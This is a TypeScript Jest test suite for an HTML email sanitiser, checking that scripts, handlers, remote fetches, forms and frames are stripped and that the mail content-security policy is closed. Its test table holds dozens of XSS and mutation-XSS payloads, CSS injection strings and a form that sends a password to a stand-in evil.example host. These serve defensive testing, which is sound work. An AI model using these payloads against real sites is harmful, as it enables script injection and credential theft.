import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { MAIL_CSP, sanitise } from './sanitise.rules.ts';

type Element = DefaultTreeAdapterTypes.Element;

const cidUrl = (contentId: string): string | undefined =>
  contentId === 'logo@mail.example' ? '/ops/attachments/1' : undefined;

/** The page as a browser would build it, but for what we put around it ourselves. */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const waiting: DefaultTreeAdapterTypes.Node[] = [parse(sanitise(html, cidUrl))];
  for (let node = waiting.pop(); node; node = waiting.pop()) {
    if ('tagName' in node) found.push(node);
    if ('childNodes' in node) waiting.push(...node.childNodes);
  }
  return found;
}

function bodyOf(html: string): string {
  const [, body = ''] = sanitise(html, cidUrl).split('<body>');
  return body.slice(0, body.lastIndexOf('</body>')).trim();
}

const OURS = new Set(['html', 'head', 'meta', 'title', 'style', 'body']);
const SHOWN = new Set(
  `a abbr b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em font h1 h2 h3 h4
  h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strike strong sub sup table tbody td tfoot th thead time
  tr tt u ul var wbr`.split(/\s+/),
);
const LOOKS = new Set(
  `align valign bgcolor color face size width height border cellpadding cellspacing colspan rowspan dir lang title
  alt start type style`.split(/\s+/),
);

/** What must hold of every page, whatever came in: the elements around it once, and nothing in it that could act. */
function expectHarmless(html: string): void {
  const elements = elementsOf(html);
  const ours = elements.filter(({ tagName }) => OURS.has(tagName)).map(({ tagName }) => tagName);
  expect(ours.toSorted()).toEqual(['body', 'head', 'html', 'meta', 'meta', 'meta', 'style', 'title']);
  const shown = elements.filter(({ tagName }) => !OURS.has(tagName));
  expect(shown.filter(({ tagName }) => !SHOWN.has(tagName))).toEqual([]);
  const attributes = shown.flatMap(({ tagName, attrs }) => attrs.map(({ name, value }) => ({ tagName, name, value })));
  expect(attributes.filter(({ tagName, name, value }) => !isHarmless(tagName, name, value))).toEqual([]);
}

function isHarmless(tag: string, name: string, value: string): boolean {
  if (name === 'style') return !/url|expression|import|image|@|\\|position|behavior|<|>/i.test(value);
  return LOOKS.has(name) || (addresses[`${tag} ${name}`]?.test(value) ?? false);
}

const addresses: Record<string, RegExp> = {
  'a href': /^(https?|mailto|tel):/,
  'a target': /^_blank$/,
  'a rel': /^noopener noreferrer nofollow$/,
  'img src': /^(\/ops\/attachments\/1|data:image\/(png|jpeg|gif|webp);base64,.*)$/,
};

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['a broken script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a handler', '<img src=x onerror=alert(1)><p onclick="alert(1)">x</p><body onload=alert(1)>'],
  ['a handler after a slash', '<img/src="x"/onerror=alert(1)>'],
  [
    'a link that runs',
    '<a href="javascript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">x</a><a href="vbscript:x">x</a>',
  ],
  ['a link with a broken scheme', '<a href=" java\nscript:alert(1)">x</a><a href="java&#x09;script:alert(1)">x</a>'],
  ['a link to data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  [
    'a link into our own pages',
    '<a href="/ops/me">x</a><a href="//evil.example">x</a><a href="?x">x</a><a href="#x">x</a>',
  ],
  [
    'a style sheet',
    '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href="https://evil.example">',
  ],
  [
    'a style that fetches',
    '<p style="background:url(https://evil.example)">x</p><p style="color:red;background-image:u\\72l(x)">x</p>',
  ],
  [
    'a style that fetches by another name',
    '<p style="color: image-set(\'https://evil.example\'); width:attr(x)">x</p>',
  ],
  ['a style that covers the page', '<p style="position:fixed;inset:0;z-index:9">x</p>'],
  ['a style with an open quote', `<p style="font-family:'x;color:red" title="';background:url(x)">x</p>`],
  ['an expression', '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">x</p>'],
  [
    'a remote image',
    '<img src="https://evil.example/p.gif"><img srcset="https://evil.example 2x"><input type=image src=x>',
  ],
  ['an old background', '<table background="https://evil.example"><td background=x></table><body background=x>'],
  ['a drawing', '<svg onload=alert(1)><image href="https://evil.example"/><script>alert(1)</script></svg>'],
  ['a drawing as data', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  [
    'a formula that hides a tag',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a tag in raw text', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a tag in a title', '<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>'],
  ['raw text of old', '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>'],
  [
    'a page that goes elsewhere',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
  ],
  ['a form', '<form action="https://evil.example"><input name=password><button formaction=x>Go</button></form>'],
  [
    'a frame',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  ],
  [
    'names that hide our own',
    '<a id=location name=location class=x>x</a><img name=cookie src="cid:logo@mail.example">',
  ],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a tag with a colon', '<o:p><v:fill src="https://evil.example"/>x</o:p>'],
  ['an end of our page', '</body></html><script>alert(1)</script>'],
  ['a NUL in a tag', '<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>'],
])('%s is left out', (_, html) => {
  expectHarmless(html);
  expectHarmless(`<div><table><td>${html}`);
  expect(bodyOf(html)).not.toMatch(/<[^>]*(alert|evil)/);
});

const pieces = fc.oneof(
  fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    '&',
    ';',
    ':',
    '`',
    '<!--',
    '-->',
    '</',
    '/>',
    '\0',
    ' ',
    '\n',
    '&lt;',
    '&#0;',
    ']]>',
  ),
  fc.constantFrom(
    '<script>',
    '</script>',
    '<style>',
    '</style>',
    '<svg>',
    '</svg>',
    '<math>',
    '<title>',
    '</title>',
    '<textarea>',
  ),
  fc.constantFrom(
    '<table>',
    '<td ',
    '<select>',
    '<option>',
    '<noscript>',
    '<template>',
    '<xmp>',
    '<plaintext>',
    '<frameset>',
  ),
  fc.constantFrom(
    '<img ',
    '<a ',
    '<p ',
    'src',
    'href',
    'style',
    'onerror',
    'javascript:',
    'url(',
    'cid:',
    'data:image/png;base64,',
  ),
  fc.string({ unit: 'grapheme', maxLength: 5 }),
);

test('whatever a mail is made of, no script, no handler, no address to fetch comes out', () => {
  const mails = fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join(''));
  fc.assert(fc.property(mails, expectHarmless), { numRuns: 1000 });
});

test('what a person wrote stays, with its looks', () => {
  const html = `<div dir="rtl"><h1 align="center">Hello</h1><p style="color: #c00; font-family: 'Segoe UI', Arial">A &amp; B &lt;c&gt;</p>
<table border="1"><tr><td colspan="2" bgcolor="#eee">Cell</td></tr></table></div>`;
  expect(bodyOf(html)).toBe(html);
});

test('a link is opened apart, and written without the name that hides where it leads', () => {
  expect(bodyOf('<a href="https://bank.example@evil.example/?a=1&amp;b=2">Bank</a>')).toBe(
    '<a href="https://evil.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Bank</a>',
  );
  expect(bodyOf('<a href="mailto:ada@example.com">Ada</a><a href="tel:+447700900123">Call</a>')).toMatch(
    /^<a href="mailto:ada@example.com" .*<a href="tel:\+447700900123" /,
  );
});

test('an image of the mail itself is shown from where it is kept', () => {
  for (const src of ['cid:logo@mail.example', 'CID:logo%40mail.example', ' cid:<logo@mail.example> '])
    expect(bodyOf(`<img src="${src}" width="10">`)).toBe('<img width="10" src="/ops/attachments/1" />');
});

test('of an image that would be fetched, what it shows is said', () => {
  expect(bodyOf('<img src="https://example.com/a.png" alt="Our <office>"> <img src="cid:none" alt="Ada">')).toBe(
    '<span>Our &lt;office&gt;</span> <span>Ada</span>',
  );
});

test('every policy that could let a mail act is closed', () => {
  expect(MAIL_CSP).toContain("default-src 'none'");
  expect(MAIL_CSP).not.toContain('allow-scripts');
  for (const name of ['base-uri', 'form-action']) expect(MAIL_CSP).toContain(`${name} 'none'`);
});

test.each([
  '<div>',
  '<b>',
  '</i>',
  '<table>',
  '<svg>',
  '<noscript>',
  '<p style="color:red;',
  '<a href="',
  '<!--',
  '&amp',
  '<',
])('four mebibytes of %j come back harmless', (piece) => {
  const half = piece.repeat(2 ** 21 / piece.length);
  expectHarmless(half + piece.replace('<', '</').repeat(2 ** 21 / piece.length));
});

test('a mail with more than is shown says so', () => {
  expect(bodyOf('<p>One</p>')).not.toContain('only its beginning');
  expect(bodyOf(`<p>One</p>${'<i>x</i>'.repeat(30_000)}`)).toContain('only its beginning is shown here');
});
